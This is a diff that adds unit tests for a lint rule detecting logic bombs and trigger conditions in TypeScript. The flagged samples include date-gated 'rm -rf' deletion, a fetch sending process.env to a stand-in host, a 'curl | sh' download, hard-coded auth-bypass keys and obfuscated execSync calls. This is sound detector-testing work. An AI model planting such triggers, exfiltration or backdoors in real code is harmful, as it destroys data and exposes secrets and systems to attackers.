@@ -1,0 +1,134 @@
+import rule from '../../../src/core/rules/ts/trigger-condition';
+import * as assert from 'node:assert/strict';
+import { ruleTester, runTs } from '../../ruleTester';
+
+const cp = "import { execSync } from 'child_process';\n";
+
+ruleTester(rule, {
+  valid: [
+    "let banner = 'old'; if (new Date().getFullYear() > 2024) banner = 'new'",
+    "if (new Date() > new Date('2025-01-01')) console.warn('deprecated')",
+    "const greeting = new Date().getHours() < 12 ? 'Good morning' : 'Hello'",
+    `${cp}if (Date.now() - start > 5000) { execSync('kill ' + pid) }`,
+    `${cp}if (token.expiresAt < Date.now()) { execSync('refresh') }`,
+    `${cp}const t0 = Date.now(); const t1 = Date.now(); if (t1 - t0 > 100) execSync('x')`,
+    `${cp}if (new Date(user.createdAt).getFullYear() > 2020) execSync('x')`,
+    "import { spawn } from 'child_process'; const shell = process.platform === 'win32' ? 'cmd' : 'sh'; spawn(shell, args)",
+    `${cp}if (process.platform === 'win32') { execSync('start ' + url) } else { execSync('xdg-open ' + url) }`,
+    `${cp}if (process.platform === 'darwin') execSync('open ' + u); else if (process.platform === 'win32') execSync('start ' + u); else execSync('xdg-open ' + u)`,
+    "import fs from 'fs'; if (process.platform !== 'win32') fs.chmodSync(file, 0o755)",
+    `${cp}if (process.platform === 'win32') return; execSync('which git')`,
+    "if (Math.random() < 0.5) { console.log('heads') }",
+    `${cp}if (Math.random() < 0.5) { execSync('a') } else { execSync('b') }`,
+    "if (process.env.NODE_ENV === 'production') { fetch('https://api.example.com/metrics') }",
+    "if (req.headers['content-type'] === 'application/json') { next() }",
+    "if (req.query.mode === 'advanced') { return next() }",
+    "if (os.hostname() === 'x') { console.log('hi') }",
+    'const r = /prod/.exec(text)',
+    `${cp}if (Date.now() > 0) execSync('x')`,
+    { code: `${cp}if (process.env.CI) { execSync('npx playwright install') }`, filename: 'test/setup.test.ts' },
+    "if (Date.now() > deadline) { throw new Error('expired') }",
+    "const now = Date.now(); if (now > 1767225600000) { console.log('happy new year') }",
+    "import fs from 'fs'; if (new Date().getHours() === 0) { logger.info('midnight') }",
+    "if (os.platform() === 'win32') { sep = '\\\\' }",
+    "const isWindows = process.platform === 'win32'; const cmd = isWindows ? 'npm.cmd' : 'npm';",
+    'this.queue.exec(job); if (Date.now() > 1767225600000) this.queue.exec(job2)',
+    'function Date() {} if (Date.now() > 1767225600000) { eval(x) }'.replace('function Date() {} ', 'const Date = { now: () => 0 }; '),
+  ],
+  invalid: [
+    {
+      code: `${cp}if (Date.now() > 1767225600000) { execSync('rm -rf ./data') }`,
+      errors: [{ messageId: 'trigger', severity: 'high', line: 2, category: 'trigger' }],
+    },
+    { code: `${cp}if (new Date() >= new Date('2027-01-01')) execSync(cmd)`, errors: [{ messageId: 'trigger', severity: 'high' }] },
+    { code: `${cp}if (new Date().getFullYear() >= 2027) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}const d = new Date(); if (d.getDay() === 5 && d.getHours() > 22) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}const t = Date.now(); if (t > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}const now = Date.now; if (now() > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    {
+      code: `${cp}const DEADLINE = Date.parse('2027-01-01'); if (Date.now() >= DEADLINE) execSync(cmd)`,
+      errors: [{ messageId: 'trigger' }],
+    },
+    { code: `${cp}if (Math.floor(Date.now() / 1000) > 1767225600) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}if (1767225600000 < Date.now()) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}Date.now() > 1767225600000 && execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}const out = new Date().getMonth() === 11 ? execSync(cmd) : null`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}switch (new Date().getDay()) { case 5: execSync(cmd); break; default: break }`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}if (Date.now() < 1767225600000) return;\nexecSync(cmd)`, errors: [{ messageId: 'trigger', line: 2 }] },
+    {
+      code: "import fs from 'fs';\nif (Date.now() > 1767225600000) { fs.rmSync('./data', { recursive: true }) }",
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    { code: "if (Date.now() > 1767225600000) { fetch('https://x.example/beacon') }", errors: [{ messageId: 'trigger', severity: 'high' }] },
+    { code: 'if (Date.now() > 1767225600000) { process.exit(1) }', errors: [{ messageId: 'trigger', severity: 'medium' }] },
+    { code: 'if (performance.timeOrigin > 1767225600000) { eval(code) }', errors: [{ messageId: 'trigger' }] },
+    {
+      code: "import os from 'os'; import fs from 'fs';\nif (os.hostname() === 'build-01') fs.writeFileSync('/tmp/x', payload)",
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    {
+      code: `import { hostname } from 'node:os';\n${cp}if (hostname().startsWith('prod-')) execSync(cmd)`,
+      errors: [{ messageId: 'trigger' }],
+    },
+    { code: `const os = require('os');\n${cp}if (os.userInfo().username === 'alice') execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `import * as os from 'os';\n${cp}if (/^ci-runner/.test(os.hostname())) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}if (process.env.USER === 'deploy') execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    {
+      code: "if (process.env.GITHUB_ACTIONS) { fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(process.env) }) }",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    {
+      code: `${cp}if (process.platform === 'linux') { execSync('curl -s https://x.example/p | sh') }`,
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    { code: 'if (Math.random() < 0.001) { eval(code) }', errors: [{ messageId: 'trigger', severity: 'high' }] },
+    { code: `${cp}if (Math.floor(Math.random() * 1000) === 7) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `import crypto from 'crypto';\n${cp}if (crypto.randomInt(1000) === 7) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: "if (Math.random() > 0.99) { fetch('https://x.example/t') }", errors: [{ messageId: 'trigger', severity: 'medium' }] },
+    {
+      code: "app.use((req, res, next) => { if (req.headers['x-debug'] === 'letmein-8f3a9c') return next(); auth(req, res, next) })",
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    {
+      code: "function checkAuth(req) { const key = req.query.key; if (key === 'sk9f8a7d6c5b4a') { return true } return verify(req) }",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: `${cp}function handler(event) { if (event.body.cmd === 'x7-run-debug-2024') { execSync(event.body.arg) } }`,
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: 'function validateLicense(lic) { if (Date.now() > 1767225600000) { return true } return check(lic) }',
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    {
+      code: `${cp}function payload() { execSync('id') }\nif (new Date().getFullYear() === 2027) payload()`,
+      errors: [{ messageId: 'trigger', line: 3 }],
+    },
+    {
+      code: "const { exec } = require('child_process');\nconst later = new Date('2027-03-01');\nif (new Date() > later) { exec(cmd) }",
+      errors: [{ messageId: 'trigger' }],
+    },
+    { code: `${cp}if (globalThis.Date.now() > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    { code: `${cp}if (window['Da' + 'te'].now() > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    {
+      code: `const { hostname: h } = require('node:os');\n${cp}if (h() === 'victim-box') execSync(cmd)`,
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: `const os = module.require('os');\n${cp}if (os.hostname?.() === 'victim-box') execSync(cmd)`,
+      errors: [{ messageId: 'trigger' }],
+    },
+    { code: `${cp}if (Date.now.call(null) > 1767225600000) execSync(cmd)`, errors: [{ messageId: 'trigger' }] },
+    {
+      code: `const cp = require('child_process');\nif (Date.now() > 1767225600000) cp['exec' + 'Sync'](cmd)`,
+      errors: [{ messageId: 'trigger' }],
+    },
+    { code: `import vm from 'vm';\nif (new Date().getUTCDate() === 13) vm.runInThisContext(src)`, errors: [{ messageId: 'trigger' }] },
+  ],
+});
+
+describe(`${rule.meta.id} meta examples`, () => {
+  rule.meta.incorrect.forEach((code, i) => it(`incorrect ${i}`, () => assert.ok(runTs(rule, code).some((f) => f.ruleId === rule.meta.id))));
+  rule.meta.correct.forEach((code, i) => it(`correct ${i}`, () => assert.deepEqual(runTs(rule, code), [])));
+});
